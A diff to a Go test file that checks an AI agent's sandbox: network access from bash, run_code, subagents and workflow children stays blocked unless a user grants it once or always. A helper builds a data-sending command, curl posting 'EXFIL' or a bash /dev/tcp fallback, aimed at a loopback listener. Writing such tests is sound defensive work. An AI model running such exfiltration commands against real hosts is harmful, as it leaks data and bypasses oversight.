@@ -11,7 +11,6 @@ import (
 	"path/filepath"
 	"strings"
 	"sync"
-	"sync/atomic"
 	"testing"
 	"time"
 
@@ -21,48 +20,24 @@ import (
 	"github.com/dsh-acp/dsh-acp/agent/llm"
 	"github.com/dsh-acp/dsh-acp/composition"
 	"github.com/dsh-acp/dsh-acp/internal/acpclient"
+	"github.com/dsh-acp/dsh-acp/internal/netsink"
 	"github.com/dsh-acp/dsh-acp/sandbox"
 	"github.com/dsh-acp/dsh-acp/session"
 )
 
-// sink is a loopback TCP listener that counts connections and bytes.
-type sink struct {
-	ln           net.Listener
-	conns, bytes atomic.Int64
+// sink is a loopback listener that answers like an HTTP server.
+type sink struct{ *netsink.Sink }
+
+func newSink(t *testing.T) sink {
+	return sink{netsink.New(t, []byte("HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok"))}
 }
 
-func newSink(t *testing.T) *sink {
-	t.Helper()
-	ln, err := net.Listen("tcp", "127.0.0.1:0")
-	require.NoError(t, err)
-	s := &sink{ln: ln}
-	t.Cleanup(func() { _ = ln.Close() })
-	go func() {
-		for {
-			c, err := ln.Accept()
-			if err != nil {
-				return
-			}
-			s.conns.Add(1)
-			go func() {
-				defer c.Close()
-				_ = c.SetDeadline(time.Now().Add(5 * time.Second))
-				buf := make([]byte, 4096)
-				n, _ := c.Read(buf)
-				s.bytes.Add(int64(n))
-				_, _ = c.Write([]byte("HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok"))
-			}()
-		}
-	}()
-	return s
-}
-
-func (s *sink) url() string { return "http://" + s.ln.Addr().String() + "/" }
+func (s sink) url() string { return "http://" + s.Addr() + "/" }
 
 // send is a command that posts EXFIL to the sink: curl, or bash's own
 // /dev/tcp where curl is not installed.
-func (s *sink) send() string {
-	host, port, _ := net.SplitHostPort(s.ln.Addr().String())
+func (s sink) send() string {
+	host, port, _ := net.SplitHostPort(s.Addr())
 	return "if command -v curl >/dev/null; then curl -sS --max-time 5 --data EXFIL " + s.url() +
 		"; else exec 3<>/dev/tcp/" + host + "/" + port + " && printf EXFIL >&3; fi"
 }
@@ -183,8 +158,8 @@ func TestContainedNetwork(t *testing.T) {
 			sid := l.srv.newSession(t, l.ws).SessionID
 			curl := s.send()
 			r := l.call(t, sid, "plain", "bash", map[string]any{"command": curl, "description": "send"})
-			assert.Zero(t, s.conns.Load(), r.text())
-			assert.Zero(t, s.bytes.Load())
+			assert.Zero(t, s.Conns.Load(), r.text())
+			assert.Zero(t, s.Bytes.Load())
 			assert.Contains(t, r.text(), sandbox.NetMarker(sandbox.WorkspaceWrite))
 
 			// Refused: still nothing.
@@ -192,7 +167,7 @@ func TestContainedNetwork(t *testing.T) {
 			r = l.call(t, sid, "refused", "bash", map[string]any{"command": curl, "description": "send", "network": true,
 				"justification": "it uploads the build"})
 			assert.True(t, r.IsError, r.text())
-			assert.Zero(t, s.conns.Load())
+			assert.Zero(t, s.Conns.Load())
 			asked := l.requests()
 			require.Len(t, asked, 1)
 			assert.Contains(t, asked[0].texts(), "with network access")
@@ -203,21 +178,21 @@ func TestContainedNetwork(t *testing.T) {
 			r = l.call(t, sid, "once", "bash", map[string]any{"command": curl, "description": "send", "network": true,
 				"justification": "it uploads the build"})
 			assert.False(t, r.IsError, r.text())
-			assert.Equal(t, int64(1), s.conns.Load(), r.text())
-			assert.Positive(t, s.bytes.Load())
+			assert.Equal(t, int64(1), s.Conns.Load(), r.text())
+			assert.Positive(t, s.Bytes.Load())
 
 			// Once means once.
 			r = l.call(t, sid, "again", "bash", map[string]any{"command": curl, "description": "send"})
-			assert.Equal(t, int64(1), s.conns.Load(), r.text())
+			assert.Equal(t, int64(1), s.Conns.Load(), r.text())
 
 			// Always: the option turns on, logged, and later calls connect.
 			l.setAnswer("allow-always")
 			l.call(t, sid, "always", "bash", map[string]any{"command": curl, "description": "send", "network": true,
 				"justification": "it uploads the build"})
-			assert.Equal(t, int64(2), s.conns.Load())
+			assert.Equal(t, int64(2), s.Conns.Load())
 			assert.Contains(t, ofType(readLog(t, l.root, sid), "bash/network"), `{"network":"on"}`)
 			l.call(t, sid, "after", "bash", map[string]any{"command": curl, "description": "send"})
-			assert.Equal(t, int64(3), s.conns.Load())
+			assert.Equal(t, int64(3), s.Conns.Load())
 
 			// Background tasks obey the option too.
 			assert.Equal(t, "off", l.srv.setConfig(t, sid, "network", "off").values()["network"])
@@ -227,7 +202,7 @@ func TestContainedNetwork(t *testing.T) {
 			for time.Now().Before(deadline) && settled == "" {
 				settled = l.taskOutput(t, sid)
 			}
-			assert.Equal(t, int64(3), s.conns.Load(), "a background task reached the listener")
+			assert.Equal(t, int64(3), s.Conns.Load(), "a background task reached the listener")
 			assert.Contains(t, settled, sandbox.NetMarker(sandbox.WorkspaceWrite), "the settled task says why")
 		})
 	}
@@ -325,7 +300,7 @@ func TestContainedNetworkInTheEditorsTerminal(t *testing.T) {
 	s.prompt(t, sid, "send")
 	awaitReleased(t, terms)
 	require.NotEmpty(t, terms.Created(), "the command ran in the editor's terminal")
-	assert.Zero(t, sk.conns.Load())
+	assert.Zero(t, sk.Conns.Load())
 	assert.Contains(t, lastResult(t, store, sid).text(), sandbox.NetMarker(sandbox.WorkspaceWrite))
 }
 
@@ -357,15 +332,15 @@ func TestContainedNetworkEveryPath(t *testing.T) {
 	send = strings.ReplaceAll(send, `\u0026`, "&")
 
 	l.call(t, sid, "code", "run_code", map[string]any{"code": "return await tools.bash({command: " + send + ", description: 'send'})"})
-	assert.Zero(t, s.conns.Load(), "run_code")
+	assert.Zero(t, s.Conns.Load(), "run_code")
 
 	bashArgs, _ := json.Marshal(map[string]any{"command": s.send(), "description": "send"})
 	l.p.script("child: send it", toolCall{Name: "bash", Args: string(bashArgs)})
 	l.call(t, sid, "delegate", "subagent", map[string]any{"description": "send", "prompt": "child: send it"})
-	assert.Zero(t, s.conns.Load(), "subagent")
+	assert.Zero(t, s.Conns.Load(), "subagent")
 	l.call(t, sid, "flow", "workflow", map[string]any{"script": "return await agent('child: send it', {label: 'send'})",
 		"meta": map[string]any{"name": "send", "description": "send"}})
-	assert.Zero(t, s.conns.Load(), "workflow child")
+	assert.Zero(t, s.Conns.Load(), "workflow child")
 	// The children really ran the command: their models got the marker.
 	children := 0
 	for _, req := range l.p.requests() {
@@ -378,7 +353,7 @@ func TestContainedNetworkEveryPath(t *testing.T) {
 	l.setAnswer("allow-once")
 	l.call(t, sid, "code-net", "run_code", map[string]any{"code": "return await tools.bash({command: " + send +
 		", description: 'send', network: true, justification: 'uploads'})"})
-	assert.Equal(t, int64(1), s.conns.Load(), "run_code, allowed once")
+	assert.Equal(t, int64(1), s.Conns.Load(), "run_code, allowed once")
 	asked := l.requests()
 	require.NotEmpty(t, asked)
 	assert.Contains(t, asked[len(asked)-1].texts(), s.send())
